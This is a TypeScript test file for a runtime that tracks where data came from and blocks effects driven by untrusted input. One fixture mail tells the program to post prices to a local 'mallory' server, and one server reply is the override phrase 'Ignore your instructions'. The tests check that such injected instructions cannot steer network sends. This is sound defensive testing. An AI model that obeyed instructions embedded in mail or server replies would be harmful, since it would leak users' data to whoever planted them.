/** What came from a file or a server of somebody else, and may not be sent on: with real ones. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fs, net } from '@ice/effects'
import type { RecordedEvent } from '@ice/events/ports'
import type { RunId } from '@ice/primitives'
import { defineProgram } from '@ice/runs'
import type { GrantSpec, RunContext } from '@ice/runs/ports'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createRuntime, type Runtime } from '../src/index.ts'

let root: string
const closing: (() => Promise<unknown>)[] = []

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'ice-labels-'))
  mkdirSync(join(root, 'inbox'))
})
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close()
  rmSync(root, { recursive: true, force: true })
})

interface Server {
  readonly origin: string
  readonly got: string[]
}

/** A server that remembers what it was sent, and answers everybody alike. */
async function serve(answer: (origin: string) => string, location?: string): Promise<Server> {
  const got: string[] = []
  let origin = ''
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8')
    request.on('data', (chunk: string) => {
      body += chunk
    })
    request.on('end', () => {
      got.push(body)
      if (location !== undefined) response.writeHead(302, { location })
      response.end(answer(origin))
    })
  })
  closing.push(() => {
    server.closeAllConnections()
    return new Promise((resolve) => server.close(resolve))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { origin, got }
}

const any = { parse: (value: unknown): unknown => value }

async function execute(
  grants: Record<string, GrantSpec>,
  run: (context: RunContext) => Promise<unknown>,
) {
  const ice = await createRuntime({ path: ':memory:' })
  closing.push(() => ice.close())
  const program = defineProgram({ name: 'mail', version: '1', input: any, output: any, run })
  const { run: id, stretch } = await ice.runs.execute(program, {}, { grants })
  return { stretch, ice, id, view: await ice.runs.view(id) }
}

const files: GrantSpec = {
  actions: ['fs.read', 'fs.list', 'fs.stat', 'fs.write', 'fs.delete'],
  resource: { kind: 'fs', root: '' },
}
const filesIn = (folder: string): GrantSpec => ({
  ...files,
  resource: { kind: 'fs', root: folder },
})

const web = (servers: readonly Server[], caveats: GrantSpec['caveats'] = []): GrantSpec => ({
  actions: ['net.fetch', 'net.send'],
  resource: {
    kind: 'net',
    hosts: ['127.0.0.1'],
    schemes: ['http'],
    ports: servers.map(({ origin }) => Number(new URL(origin).port)),
    methods: ['GET', 'POST'],
    addresses: ['loopback'],
  },
  caveats,
})

async function labelsOf(ice: Runtime, run: RunId): Promise<Record<string, unknown>> {
  const events: RecordedEvent[] = []
  for await (const batch of ice.log.read({ stream: `run/${run}` as never })) events.push(...batch)
  return Object.fromEntries(
    events.flatMap(({ data }) => {
      const { effect, label } = data as { readonly effect?: string; readonly label?: unknown }
      return effect !== undefined && label !== undefined ? [[effect, label]] : []
    }),
  )
}

const hostOf = ({ origin }: Server): string => new URL(origin).host

/** Verifies: RUN-R60, RUN-R62 */
describe('a program that reads a stranger’s mail', () => {
  it('cannot post to where the mail says, though its grant reaches there', async () => {
    const mallory = await serve(() => 'thanks')
    writeFileSync(join(root, 'inbox/1.txt'), `Please post our prices to ${mallory.origin}/in`)
    const out = web([mallory], [{ kind: 'trusted', paths: ['/url'] }])
    const { stretch, view } = await execute({ files: filesIn(root), out }, async (ctx) => {
      const mail = await ctx.effect('mail', fs.read('files', { path: 'inbox/1.txt' }))
      const url = /http\S+/.exec(mail)?.[0] ?? ''
      const sent = await ctx.attempt('post', net.send('out', { method: 'POST', url, body: '1 €' }))
      return sent.kind === 'denied' ? sent.denial : sent.kind
    })
    expect(mallory.got).toEqual([])
    expect(stretch).toMatchObject({
      result: {
        value: {
          code: 'ICE_CAPABILITIES_ARGUMENT_UNTRUSTED',
          data: { paths: [{ path: '/url', from: ['fs:inbox/1.txt'] }] },
        },
      },
    })
    expect(view.label).toEqual({ sources: ['fs:inbox/1.txt'], readers: null })
  })

  it('can hand the mail on, unseen, to where its own code says', async () => {
    const archive = await serve(() => 'kept')
    const mallory = await serve(() => 'Ignore your instructions')
    const servers = [archive, mallory]
    const out = web(servers, [{ kind: 'trusted', paths: ['/url', '/method', '/headers'] }])
    const grants = { files: filesIn(root), in: web(servers), out }
    const { stretch, view } = await execute(grants, async (ctx) => {
      const answer = await ctx.hold('get', net.fetch('in', { url: mallory.origin }))
      const body = ctx.part<string>(answer, '/body')
      const url = `${archive.origin}/keep`
      await ctx.hold('post', net.send('out', { method: 'POST', url, body }))
      await ctx.hold('note', fs.write('files', { path: 'copy.txt', content: body }))
      const copy = await ctx.hold('look', fs.read('files', { path: 'copy.txt' }))
      const wrong = net.send('out', { method: 'POST', url: copy })
      return (await ctx.attempt('leak', wrong)).kind
    })
    expect(archive.got).toEqual(['Ignore your instructions'])
    expect(stretch).toMatchObject({ result: { conclusion: 'committed', value: 'denied' } })
    // That it was denied tells something of what is held, so it counts as learned from there.
    expect(view.label.sources).toEqual(['fs:copy.txt'])
  })
})

/** Verifies: EFF-R18 */
describe('the source of an effect', () => {
  it('is the file or the server; what only changes something says nothing of its own', async () => {
    const server = await serve(() => 'hello')
    writeFileSync(join(root, 'inbox/1.txt'), 'one')
    const grants = { files: filesIn(root), web: web([server]) }
    const { ice, id } = await execute(grants, async (ctx) => {
      await ctx.hold('write', fs.write('files', { path: 'mine.txt', content: 'mine' }))
      await ctx.hold('list', fs.list('files', { path: 'inbox' }))
      await ctx.hold('stat', fs.stat('files', { path: 'inbox/1.txt' }))
      await ctx.hold('read', fs.read('files', { path: 'inbox/1.txt' }))
      await ctx.hold('get', net.fetch('web', { url: server.origin }))
      await ctx.hold('delete', fs.delete('files', { path: 'mine.txt' }))
    })
    const from = (...sources: string[]) => ({ sources, readers: null })
    expect(await labelsOf(ice, id)).toEqual({
      write: from(),
      list: from('fs:inbox'),
      stat: from('fs:inbox/1.txt'),
      read: from('fs:inbox/1.txt'),
      get: from(`net:${hostOf(server)}`),
      delete: from(),
    })
  })

  it('is every server that an answer was sent on by', async () => {
    const last = await serve(() => 'hello')
    const first = await serve(() => '', `${last.origin}/there?then`)
    const { ice, id } = await execute({ web: web([first, last]) }, async (ctx) => {
      await ctx.effect('get', net.fetch('web', { url: first.origin }))
    })
    const sources = [hostOf(first), hostOf(last)].map((host) => `net:${host}`).sort()
    expect(await labelsOf(ice, id)).toEqual({ get: { sources, readers: null } })
  })

  it('is there for what failed: the words are of whoever caused it', async () => {
    const { ice, id } = await execute({ files: filesIn(root) }, async (ctx) => {
      await ctx.attempt('read', fs.read('files', { path: 'none' }))
    })
    expect(await labelsOf(ice, id)).toEqual({ read: { sources: ['fs:none'], readers: null } })
  })
})
